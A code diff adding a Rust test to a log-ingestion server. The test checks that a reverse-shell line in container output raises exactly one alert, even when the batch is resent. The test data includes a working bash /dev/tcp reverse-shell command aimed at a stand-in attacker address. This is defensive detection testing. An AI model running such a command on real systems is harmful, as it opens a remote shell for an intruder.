@@ -696,3 +696,97 @@ async fn falco_posts_to_a_token_url_become_alerts_and_the_token_is_never_logged(
     assert!(!log.contains(&token), "the token reached the log:\n{log}");
     assert!(!log.contains("kst_not_a_token"), "{log}");
 }
+
+/// An agent batch of container output from pod `shop/web-0` on node-b, as the agent sends it.
+fn container_batch(start: u64, messages: &[&str]) -> Vec<u8> {
+    use kestrel_event::{BatchOrigin, ContainerLog, IngestBatch, LogStream, PodIdentity};
+    let now = chrono::Utc::now().timestamp_nanos_opt().unwrap();
+    let origin = BatchOrigin {
+        agent: "node-b-agent".into(),
+        cluster: Some("prod".into()),
+        node: Some("node-b".into()),
+        input: "pod_logs".into(),
+        stream: "/var/log/pods/shop_web-0_1f0c/web/0.log".into(),
+        file: Some("/var/log/pods/shop_web-0_1f0c/web/0.log".into()),
+        pod: Some(PodIdentity {
+            namespace: Some("shop".into()),
+            pod: Some("web-0".into()),
+            container: Some("web".into()),
+            ..Default::default()
+        }),
+        ..Default::default()
+    };
+    let end = start + messages.len() as u64 * 100;
+    let batch = IngestBatch {
+        version: kestrel_event::INGEST_FORMAT_VERSION,
+        id: kestrel_event::batch_id(&origin.agent, &origin.input, &origin.stream, start, end),
+        origin,
+        start,
+        end,
+        container_logs: messages
+            .iter()
+            .enumerate()
+            .map(|(i, m)| ContainerLog {
+                time: now + i as i64,
+                stream: LogStream::Stdout,
+                message: m.to_string(),
+                truncated: false,
+            })
+            .collect(),
+        ..Default::default()
+    };
+    serde_json::to_vec(&batch).unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn rules_of_agent_sources_raise_alerts_once_per_batch() {
+    let tmp = tempfile::tempdir().unwrap();
+    let server = TestServer::start(&tmp.path().join("data")).await;
+    let admin = server.admin.clone();
+    let send = async |body: Vec<u8>| {
+        let r = reqwest::Client::new()
+            .post(format!("{}/v1/ingest", server.url))
+            .bearer_auth(&admin)
+            .header("content-type", "application/json")
+            .body(body)
+            .send()
+            .await
+            .unwrap();
+        let status = r.status();
+        let v: Value = r.json().await.unwrap();
+        assert_eq!(status, 200, "{v}");
+        v
+    };
+    let batch = container_batch(
+        0,
+        &[
+            "GET /healthz 200",
+            "connecting: bash -i >& /dev/tcp/203.0.113.45/4444 0>&1",
+        ],
+    );
+    let v = send(batch.clone()).await;
+    assert_eq!(
+        (v["accepted"].as_u64(), v["alerts"].as_u64()),
+        (Some(2), Some(1)),
+        "{v}"
+    );
+    // The same batch again (an agent resending after a crash): stored once, no second alert.
+    let v = send(batch).await;
+    assert_eq!(
+        (v["accepted"].as_u64(), v["alerts"].as_u64()),
+        (Some(0), Some(0)),
+        "{v}"
+    );
+
+    let alerts = server.api().get("/v1/alerts", Some(&admin)).await.json();
+    let a = alert_of(&alerts, "Kestrel Reverse Shell In Container Output");
+    assert_eq!(a["count"], 1, "{a}");
+    assert_eq!(a["labels"]["namespace"], "shop", "{a}");
+    assert_eq!(a["labels"]["pod"], "web-0", "{a}");
+    assert_eq!(a["labels"]["node"], "node-b", "{a}");
+    assert_eq!(a["labels"]["cluster"], "prod", "{a}");
+    // The alert links to the rows behind it.
+    let query = a["event"]["query"].as_str().unwrap();
+    let rows = server.query(query).await;
+    assert_eq!(rows.len(), 2, "{query}");
+}
